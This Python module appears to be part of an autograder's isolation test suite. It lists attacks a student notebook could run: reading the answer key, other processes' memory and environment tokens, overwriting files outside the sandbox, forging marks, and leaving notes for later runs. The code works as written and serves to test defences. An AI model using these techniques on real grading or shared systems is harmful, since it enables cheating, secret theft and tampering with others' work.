"""Attacks on what is secret, and on what lies outside: files, memory, processes, network."""

from textwrap import dedent

from .entry import ALL, HONEST, Entry


def spy(name, tries, source, wins=(), limits=None, points=ALL, **more):
    """An attack in the first cell of an honest notebook; what it finds, it tells."""
    wins = frozenset(wins)
    if wins & {"reads", "could write"} and limits is None:
        limits = (0, 3, 1)  # telling costs the question whose reason carries the text out
    first = HONEST["slope"] + dedent(source)
    answers = HONEST | {"slope": ""}  # a later answer would take back what was told
    return Entry(name, tries, answers, first=first, points=points, limits=limits, wins=wins, **more)


NO_ANSWERS = {"slope": "", "gradient": "", "formula": ""}
READING = [
    Entry(
        "key read",
        "The key is opened, and its solutions are run in place of answers.",
        NO_ANSWERS,
        first="""
        import json
        text = ""
        try:
            for cell in json.load(open(A["key"]))["cells"]:
                if "SOLUTION" in "".join(cell["source"]):
                    exec("".join(cell["source"]))
        except OSError:
            pass
        """,
        limits=ALL,
        wins=frozenset({"marks"}),
    ),
    Entry(
        "key read through a parent",
        "The same, by the root folder and the open files of other processes.",
        NO_ANSWERS,
        first="""
        import glob, json, os
        paths = [f"/proc/{pid}/{name}{A['key']}" for pid in graders() for name in ("root", "cwd")]
        for path in paths + [path for pid in graders() for path in glob.glob(f"/proc/{pid}/fd/*")]:
            try:
                if not os.path.isfile(path) or "08_arena" not in os.path.realpath(path): continue
                for cell in json.load(open(path))["cells"]:
                    if "SOLUTION" in "".join(cell["source"]):
                        exec("".join(cell["source"]))
                break
            except (OSError, ValueError, KeyError):
                pass
        """,
        limits=ALL,
        wins=frozenset({"marks"}),
    ),
    spy(
        "memory of the key's process",
        "Processes of the grader, and the one that runs the key, are searched for its words.",
        """
        import glob, re
        pids = graders()
        for pid in list(pids):
            for path in glob.glob(f"/proc/{pid}/task/*/children"):
                try: pids += [int(text) for text in open(path).read().split()]
                except OSError: pass
        mark = re.compile(b"a he[r]on stands")
        for pid in pids:
            try:
                memory = open(f"/proc/{pid}/mem", "rb", 0)
                for line in open(f"/proc/{pid}/maps"):
                    words = line.split()
                    if "rw" not in words[1]: continue
                    a, b = (int(x, 16) for x in words[0].split("-"))
                    if b - a > (64 << 20): continue
                    memory.seek(a)
                    if mark.search(memory.read(b - a)): tell("a word of the key")
            except (OSError, ValueError, OverflowError):
                pass
        """,
        {"reads"},
    ),
    Entry(
        "neighbour's answers",
        "The submission of another student is read and handed in.",
        NO_ANSWERS,
        first="""
        import glob, json
        try:
            for path in sorted(glob.glob(A["submissions"] + "/*honest.ipynb"))[:1]:
                for cell in json.load(open(path))["cells"]:
                    data = cell["metadata"].get("nbgrader", {})
                    if cell["cell_type"] == "code" and data.get("solution"):
                        exec("".join(cell["source"]))
        except OSError:
            pass
        """,
        limits=ALL,
        wins=frozenset({"marks"}),
    ),
    spy(
        "store read",
        "The store of marks and the secret of the run are read.",
        """
        import glob
        for path in glob.glob(A["out"] + "/*"):
            try: tell(path + open(path, "rb").read(100).hex())
            except OSError: pass
        """,
        {"reads"},
    ),
    spy(
        "frames and objects",
        "Frames, modules and every living object are searched for expected results.",
        """
        import gc, re, sys
        found, frame = [], sys._getframe()
        while frame:
            found += [name for name in frame.f_locals if name in ("expected", "answers", "key")]
            frame = frame.f_back
        mark = re.compile("a he[r]on stands")
        for thing in gc.get_objects():
            if isinstance(thing, dict):
                found += [v for v in list(thing.values()) if isinstance(v, str) and mark.search(v)]
            elif isinstance(thing, list | tuple):
                found += [v for v in thing if isinstance(v, str) and mark.search(v)]
        if found: tell(found)
        """,
    ),
    spy(
        "its own memory",
        "Memory inherited from the process that it was forked from is searched for other "
        "submissions, for the key and for hidden tests still to come.",
        """
        import re
        # No bytes that match are in this program itself.
        marks = re.compile(b"a he[r]on stands|an ib[i]s stands|_sto[r]k = sub")
        memory = open("/proc/self/mem", "rb", 0)
        for line in open("/proc/self/maps").read().splitlines():
            words = line.split()
            if "r" not in words[1] or "[v" in line: continue
            a, b = (int(x, 16) for x in words[0].split("-"))
            try:
                memory.seek(a)
                content = memory.read(b - a) if b - a < (256 << 20) else b""
            except (OSError, ValueError, OverflowError):
                continue
            if marks.search(content): tell("inherited a word of the key, a test or a neighbour")
            del content
        """,
    ),
    spy(
        "ptrace",
        "A process of the grader is traced, and its memory read by process_vm_readv.",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        if libc.ptrace(16, A["victim"], None, None) == 0:
            tell("traced")
            import os
            os.waitpid(A["victim"], 0x40000000)
            libc.ptrace(17, A["victim"], None, None)
        """,
        {"reads"},
    ),
    spy(
        "environment",
        "The environment of this process and of the grader's is searched for a token.",
        """
        import os
        if any("SECRET_TOKEN" in name for name in os.environ): tell("own environment")
        for pid in graders():
            try:
                text = open(f"/proc/{pid}/environ", "rb").read()
                if b"SECRET_TOKEN" in text and A["token"].encode() in text: tell("a token")
            except OSError: pass
        """,
        {"reads"},
    ),
    spy(
        "command lines",
        "The command lines of other processes, which name the key.",
        """
        if graders(): tell("the command line of the grader")
        """,
        {"reads"},
    ),
    spy(
        "inherited files",
        "Open files that a parent left: the key, the store, sockets.",
        """
        import os, stat
        for number in range(3, 256):
            try:
                target = os.readlink(f"/proc/self/fd/{number}")
                if any(A[x] in target for x in ("key", "out", "submissions")): tell(target)
            except OSError: pass
        """,
    ),
    spy(
        "folders listed",
        "The folders of the course, of the submissions and of the user are listed.",
        """
        import os
        for path in (A["submissions"], A["out"], os.path.dirname(A["key"])):
            try: tell(os.listdir(path))
            except OSError: pass
        """,
        {"reads"},
    ),
    Entry(
        "hidden test carried out",
        "An error's message holds the text of the hidden test before it, for the student to read.",
        HONEST
        | {
            "gradient": """
            import linecache
            def gradient(w):
                for lines in list(linecache.cache.values()):
                    text = "".join(lines[2]) if len(lines) > 2 else ""
                    if "_sto" + "rk = " in text:
                        raise ValueError("FOUND " + text)
                texts = [t for t in get_ipython().user_ns.get("In", []) if "_sto" + "rk = " in t]
                if texts:
                    raise ValueError("FOUND " + texts[0])
                return 2 * w
            """
        },
        points=(2, 0, 1),
        reasons=("right", "FOUND", "right"),
        even_isolated=frozenset({"reads"}),
    ),
]

WRITING = [
    spy(
        "file outside",
        "A file of the grader is overwritten, by its path and by a path of many `..`.",
        """
        for path in (A["canary"], "../" * 30 + A["canary"].lstrip("/")):
            try: open(path, "w").write("was here")
            except OSError: pass
        """,
        {"writes"},
    ),
    spy(
        "file outside by a link",
        "A symbolic link in the scratch folder leads to a file of the grader; a hard link too.",
        """
        import os
        for link in (os.symlink, os.link):
            try:
                link(A["canary"], link.__name__)
                open(link.__name__, "w").write("was here")
            except OSError: pass
        """,
        {"writes"},
    ),
    spy(
        "package changed",
        "The package and the libraries that all submissions share are opened for writing.",
        """
        import os, sys, numpy, adcourse
        for module in (numpy, adcourse, os):
            if os.access(module.__file__, os.W_OK): tell("writable: " + module.__file__)
        """,
        {"could write"},
    ),
    spy(
        "note for an accomplice",
        "Files in /tmp, /var/tmp and /dev/shm, for a submission that is graded later.",
        """
        import os
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~root")):
            try: open(f"{folder}/" + A["note"], "w").write("2 * x + 3")
            except OSError: pass
        """,
        {"leaves"},
    ),
    spy(
        "shared memory",
        "A segment of System V shared memory, which outlives its process and is counted nowhere.",
        """
        import ctypes
        ctypes.CDLL(None).shmget(A["segment"], 4096, 0o1666)
        """,
        {"leaves"},
    ),
    spy(
        "note in the kernel's keyring",
        "A key of the Linux kernel, which is kept for a user and not for a process.",
        """
        import ctypes, platform
        add_key = {"x86_64": 248, "aarch64": 217}.get(platform.machine())
        note = ("adcourse-" + A["token"]).encode()
        for ring in (-4, -5) if add_key else ():  # of the user, and of the user's sessions
            ctypes.CDLL(None).syscall(add_key, b"user", note, b"2 * x + 3", 9, ring)
        """
        + " " * 8
        + "#" * 900,  # the longest run first, so this one runs before the one that looks
        {"leaves"},
    ),
    spy(
        "note in the kernel's keyring found",
        "The accomplice of the one before, who looks for the note.",
        """
        import ctypes, platform
        keyctl = {"x86_64": 250, "aarch64": 219}.get(platform.machine())
        note = ("adcourse-" + A["token"]).encode()
        for ring in (-4, -5) if keyctl else ():
            if ctypes.CDLL(None).syscall(keyctl, 10, ring, b"user", note, 0) > 0:
                tell("a note of another run")
        """,
        {"reads"},
    ),
    spy(
        "neighbours' files",
        "The submissions of others are overwritten with a blank.",
        """
        import glob
        for path in glob.glob(A["decoys"] + "/*"):
            try: open(path, "w").write("{}")
            except OSError: pass
        """,
        {"writes"},
    ),
    spy(
        "marks written",
        "Rows are added to the store of marks.",
        """
        try: open(A["decoy_store"], "a").write(A["me"] + ",08.slope,100,100,right,0\\n")
        except OSError: pass
        """,
        {"writes"},
    ),
    spy(
        "root folder changed",
        "chroot, chdir and mount, to reach files by another root.",
        """
        import ctypes, os
        libc = ctypes.CDLL(None)
        child = os.fork()
        if child == 0:
            libc.unshare(0x10020000) and libc.unshare(0x20000)
            libc.mount(None, b"/", None, 0x44000, None)
            libc.mount(None, b"/", None, 0x1020, None)
            try:
                os.mkdir("jail")
                os.chroot("jail")
            except OSError: pass
            for _ in range(60):
                try: os.chdir("..")
                except OSError: break
            try: os.chroot(".")
            except OSError: pass
            try: open(A["canary"], "w").write("was here")
            except OSError: pass
            os._exit(0)
        os.waitpid(child, 0)
        """,
        {"writes"},
    ),
    spy(
        "setuid",
        "The process becomes another user, or root again, and opens the grader's files.",
        """
        import os
        child = os.fork()
        if child == 0:
            for number in (0, os.stat("/proc/self").st_uid):
                for change in (os.setuid, os.setgid, os.seteuid):
                    try: change(number)
                    except OSError: pass
            try: open(A["canary"], "w").write("was here")
            except OSError: pass
            os._exit(0)
        os.waitpid(child, 0)
        """,
        {"writes"},
    ),
]

SOCKETS = [
    spy(
        "TCP",
        "Text is sent to a port of the machine.",
        """
        import socket
        for host in ("127.0.0.1", "localhost"):
            try:
                with socket.create_connection((host, A["port"]), 1) as door:
                    door.sendall(A["me"].encode())
            except OSError: pass
        """,
        {"connects"},
    ),
    spy(
        "UDP",
        "A datagram is sent to a port of the machine.",
        """
        import socket
        try:
            socket.socket(type=socket.SOCK_DGRAM).sendto(A["me"].encode(), ("127.0.0.1", A["port"]))
        except OSError: pass
        """,
        {"connects"},
    ),
    spy(
        "Unix socket",
        "A socket in the file system is connected to.",
        """
        import socket
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(A["door"]); s.sendall(A["me"].encode())
        except OSError: pass
        """,
        {"connects"},
    ),
    spy(
        "abstract socket",
        "A socket without a file is connected to.",
        """
        import socket
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.connect("\\0" + A["abstract"]); s.sendall(A["me"].encode())
        except OSError: pass
        """,
        {"connects"},
    ),
]
